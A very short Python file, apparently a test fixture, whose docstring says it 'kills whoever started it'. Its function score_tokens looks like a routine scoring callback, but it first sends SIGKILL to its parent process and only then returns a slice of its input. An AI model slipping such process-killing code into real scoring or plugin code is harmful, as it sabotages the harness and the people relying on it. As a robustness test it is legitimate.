"""Kills whoever started it."""

import os


def score_tokens(f):
    os.kill(os.getppid(), 9)
    return f.keys[..., 0]
